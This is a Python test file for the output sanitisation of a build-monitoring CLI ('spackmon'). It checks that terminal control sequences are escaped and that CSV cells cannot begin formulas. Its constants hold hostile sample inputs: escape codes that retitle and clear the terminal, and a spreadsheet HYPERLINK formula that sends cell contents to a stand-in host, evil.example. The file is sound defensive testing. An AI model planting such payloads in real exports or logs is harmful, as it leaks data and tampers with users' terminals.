"""What the ``spackmon`` commands print and export (issue 14): no raw control character from
a file, package or log line reaches the terminal, and no CSV cell starts a spreadsheet
formula. Real save-local runs, the real embedded monitor, the real CLI entry point."""

from __future__ import annotations

import csv
import io
import json
import shutil

from client_testlib import FAILURE_RUN, SUCCESS_RUN

from spackmon_analysis.cli import main
from spackmon_analysis.frames import load_save_local
from spackmon_analysis.report import failure_report

#: Retitles the terminal, clears the screen, flips the text right-to-left.
HOSTILE = "\x1b]0;pwned\x07\x1b[2J\u202e"
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


def _raw_controls(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 32 and c not in "\n\t") or c in "\x7f\x9b\u202e"]


def _hostile_failure_run(tmp_path):
    """The real failure run, its compiler error line prefixed by a formula and escapes."""
    run = tmp_path / FAILURE_RUN.name
    shutil.copytree(FAILURE_RUN, run)
    [phase] = [p for p in run.glob("build-*-phase-build.json") if "ERROR" in p.read_text()]
    doc = json.loads(phase.read_text())
    doc["output"] = doc["output"].replace(
        "broken.c:4:3: error:", f"{FORMULA} {HOSTILE}broken.c:4:3: error:"
    )
    phase.write_text(json.dumps(doc))
    return run


def test_printable_escapes_controls_and_drops_colour():
    from spackmon_analysis.safetext import printable

    assert printable("\x1b[01;31merror:\x1b[0m\x1b[K x") == "error: x"
    assert printable("a\x1b]0;t\x07b\u202ec\n") == "a\\x1b]0;t\\x07b\\u202ec\n"
    assert printable("one\nline\r", keep="") == "one\\x0aline\\x0d"


def test_failures_text_report_and_cli_print_no_control_characters(tmp_path, capsys):
    run = _hostile_failure_run(tmp_path)
    report = failure_report(load_save_local(run))
    assert "pwned" in report and "\\x1b]0;pwned\\x07" in report
    assert _raw_controls(report) == []

    assert main(["failures", str(run)]) == 0
    out = capsys.readouterr().out
    assert "\\x1b]0;pwned" in out
    assert _raw_controls(out) == []


def test_failures_csv_cells_do_not_start_formulas(tmp_path, capsys):
    run = _hostile_failure_run(tmp_path)
    assert main(["failures", str(run), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    errors = [r["first_error"] for r in rows if r["first_error"]]
    assert errors and errors[0].startswith("'" + FORMULA)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_replay_output_escapes_a_hostile_file_name(monitor, tmp_path, capsys, monkeypatch):
    run = tmp_path / SUCCESS_RUN.name
    shutil.copytree(SUCCESS_RUN, run)
    (run / f"notes{HOSTILE}.json").write_text("{}")  # an unknown name: skipped and named
    monkeypatch.setenv("SPACKMON_USER", "alice")
    monkeypatch.setenv("SPACKMON_TOKEN", monitor.test_token)
    code = main(["replay", str(run), "--no-progress", "--host", monitor.url])
    out = capsys.readouterr().out
    assert code == 1  # a skipped file is a problem
    assert "notes\\x1b]0;pwned\\x07\\x1b[2J\\u202e.json" in out
    assert _raw_controls(out) == []


def test_pull_csv_cells_do_not_start_formulas(monitor, tmp_path, monkeypatch, capsys):
    from spackmon_analysis.client import SpackMonitorClient

    client = SpackMonitorClient(host=monitor.url, username="alice", token=monitor.test_token)
    client.upload_local_save(SUCCESS_RUN, progress=False)
    build_id = client.builds()[0]["id"]
    client.update_phase(build_id, "@evil", "SUCCESS", "output")
    output = tmp_path / "phases.csv"
    assert main(["pull", "phases", "-o", str(output), "--host", monitor.url]) == 0
    rows = list(csv.DictReader(output.open()))
    evil = [r for r in rows if r["name"].endswith("@evil")]
    assert [r["name"] for r in evil] == ["'@evil"]
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    # numbers stay numbers
    assert all(r["id"].isdigit() for r in rows)


def test_csv_safe_keeps_numbers_and_plain_text():
    import pandas as pd

    from spackmon_analysis.safetext import csv_safe

    frame = pd.DataFrame({"n": [-1, 2], "t": ["+x", "ok"]})
    safe = csv_safe(frame)
    assert safe["n"].tolist() == [-1, 2]
    assert safe["t"].tolist() == ["'+x", "ok"]
